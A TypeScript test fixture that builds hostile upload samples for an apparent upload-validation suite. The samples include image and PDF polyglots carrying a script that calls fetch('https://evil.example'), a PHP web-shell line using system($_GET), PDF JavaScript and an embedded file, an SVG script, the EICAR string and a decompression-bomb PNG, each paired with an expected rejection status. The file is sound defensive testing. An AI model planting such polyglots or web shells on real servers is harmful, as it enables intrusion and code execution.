import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { EICAR } from '#tests/support/fakes/fake-clamd.ts';
import { receipt } from '#tests/api/trading/proof-harness.ts';

/** What must not come out of a file again. */
export const PAYLOAD = 'evil.example';
const PAGE = `<script>fetch("https://${PAYLOAD}")</script>`;
const PHP = `<?php system($_GET["${PAYLOAD}"]); ?>`;

/** Pictures and documents that are something else besides. */
export async function disguised(): Promise<[kind: string, bytes: Buffer][]> {
  const png = await receipt(40, 30);
  const gif = await sharp(png).gif().toBuffer();
  const jpeg = await sharp(png)
    .withExif({ IFD0: { ImageDescription: PAGE } })
    .jpeg()
    .toBuffer();
  const comment = chunk('tEXt', Buffer.from(`Comment\0${PAGE}${PHP}`));
  const script = `/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://${PAYLOAD}"\\)) >>`;
  const file = `/Names << /EmbeddedFiles << /Names [(${PAYLOAD}) << /EF << /F 3 0 R >> >>] >> >>`;
  return [
    ['a picture with a script behind it', Buffer.concat([png, Buffer.from(PHP)])],
    [
      'a picture with a page in a comment',
      Buffer.concat([png.subarray(0, 33), comment, png.subarray(33)]),
    ],
    ['a photograph with a page in its description', jpeg],
    [
      'a picture that is an archive besides',
      Buffer.concat([png, Buffer.from(`PK\x03\x04${PAGE}PK\x05\x06`)]),
    ],
    [
      'a GIF that is JavaScript',
      Buffer.concat([gif, Buffer.from(`*/=1;alert("${PAYLOAD}")//${PAGE}`)]),
    ],
    ['a PDF that runs a script', documentWith(script)],
    ['a PDF that carries a file', documentWith(file)],
  ];
}

/** Files that are refused, and with which status. */
export const REFUSED: readonly [status: string, kind: string, bytes: () => Buffer][] = [
  ['415', 'a page', () => Buffer.from(`<!doctype html>${PAGE}`)],
  ['415', 'a script', () => Buffer.from('alert(1)')],
  ['415', 'a drawing', () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${PAGE}</svg>`)],
  [
    '415',
    'a drawing that says so late',
    () => Buffer.from(`<?xml version="1.0"?><!-- x --><s:svg xmlns:s="x">${PAGE}</s:svg>`),
  ],
  ['415', 'an archive', () => Buffer.from('PK\x03\x04archive', 'latin1')],
  ['415', 'a packed file', () => gzipSync('x'.repeat(1_000))],
  ['415', 'an office file', () => Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1')],
  ['415', 'a program', () => Buffer.from('MZ\x90\x00\x03', 'latin1')],
  ['415', 'a film', () => Buffer.from('\0\0\0\x20ftypmp42', 'latin1')],
  ['415', 'the file that scanners are tried with', () => Buffer.from(EICAR)],
  ['422', 'a picture of 30000 × 30000', () => blank(30_000, 30_000)],
  ['422', 'half a picture', () => blank(64, 64).subarray(0, 50)],
  ['422', 'a PDF in name alone', () => Buffer.from('%PDF-1.7 and nothing more')],
  ['422', 'a page that begins as a GIF', () => Buffer.from(`GIF89a=1;//${PAGE}`)],
  ['413', 'more than 10 MB', () => Buffer.concat([blank(8, 8), Buffer.alloc(10_485_760)])],
];

/** A black picture with every pixel of it, which packs into next to nothing. */
function blank(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 });
  const mark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const end = chunk('IEND', Buffer.alloc(0));
  return Buffer.concat([mark, chunk('IHDR', head), chunk('IDAT', rows), end]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PDF of one page, with further entries in its catalogue. */
function documentWith(entries: string): Buffer {
  const content = '1 0 0 rg 25 35 50 50 re f';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${entries} >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 120] /Contents 3 0 R >>',
  ];
  let text = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  text += offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`;
  return Buffer.from(text, 'latin1');
}
